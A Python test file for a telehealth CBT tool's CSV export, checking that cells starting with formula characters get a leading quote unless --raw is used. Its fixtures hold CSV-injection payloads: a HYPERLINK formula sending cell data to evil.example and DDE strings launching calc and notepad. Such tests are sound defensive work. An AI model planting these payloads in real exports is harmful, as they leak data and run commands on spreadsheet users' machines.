"""Issue 12.3 (the `telecbt export csv` half): CSV for spreadsheets neutralises formula prefixes unless --raw.

Before: 74 cells starting with `=`, `+`, `-` or `@` went into the CSV files as stored, and a
spreadsheet opening them would run them as formulas (CSV injection, OWASP).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from typer.testing import CliRunner

from telecbt_cli.cli import app
from telecbt_cli.core.care import diary, messages
from telecbt_cli.core.clinical.patients import PatientFields, add_patient, record_consent
from telecbt_cli.core.sync import exports
from tests.conftest import ADMIN_PASS

FORMULAS = {
    "display_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "phone": "+254700000001",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "caregiver_name": "-2+3",
    "caregiver_contact": "\t=1+1",
}


def rows(path: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def enrol_hostile(admin) -> dict:
    patient = add_patient(admin, PatientFields(language="en", birth_year=1960, **FORMULAS))
    record_consent(admin, patient["code"], "verbal", "v1")
    diary.add_entry(admin, patient["code"], {"pain": 3, "note": "=cmd|' /C notepad'!A0"})
    messages.send(admin, patient["code"], "+1 see you soon")
    quiet = add_patient(admin, PatientFields(display_name="Plain Name", language="en"))
    return {"hostile": patient, "quiet": quiet}


def test_formula_cells_get_a_leading_quote_in_csv(admin, tmp_path):
    made = enrol_hostile(admin)
    exports.export_tables(admin, tmp_path / "csv", "csv", plaintext=True)
    people = {r["id"]: r for r in rows(tmp_path / "csv" / "patients.csv")}
    hostile = people[made["hostile"]["id"]]
    for field, value in FORMULAS.items():
        assert hostile[field] == "'" + value, field
    assert hostile["birth_year"] == "1960" and hostile["language"] == "en"  # other cells of the row unchanged
    assert people[made["quiet"]["id"]]["display_name"] == "Plain Name"
    [entry] = rows(tmp_path / "csv" / "diary_entries.csv")
    assert entry["note"] == "'=cmd|' /C notepad'!A0" and entry["pain"] == "3" and json.loads(entry["locations"]) == []
    [message] = rows(tmp_path / "csv" / "messages.csv")
    assert message["body"] == "'+1 see you soon"
    every_cell = [cell for table in exports.TABLES for row in rows(tmp_path / "csv" / f"{table}.csv")
                  for cell in row.values()]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_raw_csv_and_ndjson_keep_the_values_exactly(admin, tmp_path):
    made = enrol_hostile(admin)
    exports.export_tables(admin, tmp_path / "raw", "csv", plaintext=True, raw=True)
    hostile = {r["id"]: r for r in rows(tmp_path / "raw" / "patients.csv")}[made["hostile"]["id"]]
    assert {field: hostile[field] for field in FORMULAS} == FORMULAS
    exports.export_tables(admin, tmp_path / "nd", "ndjson", plaintext=True)
    lines = (tmp_path / "nd" / "patients.ndjson").read_text(encoding="utf-8").splitlines()
    record = {r["id"]: r for r in map(json.loads, lines)}[made["hostile"]["id"]]
    assert {field: record[field] for field in FORMULAS} == FORMULAS


def test_raw_from_the_command_line(admin, store_dir, tmp_path, monkeypatch):
    made = enrol_hostile(admin)
    monkeypatch.setenv("TELECBT_PASSPHRASE", ADMIN_PASS)
    runner = CliRunner()
    for flags, expected in (([], "'" + FORMULAS["phone"]), (["--raw"], FORMULAS["phone"])):
        out = tmp_path / ("raw" if flags else "safe")
        result = runner.invoke(app, ["export", "csv", "--out", str(out), "--plaintext", "--store", str(store_dir),
                                     *flags])
        assert result.exit_code == 0, result.stderr
        assert {r["id"]: r for r in rows(out / "patients.csv")}[made["hostile"]["id"]]["phone"] == expected
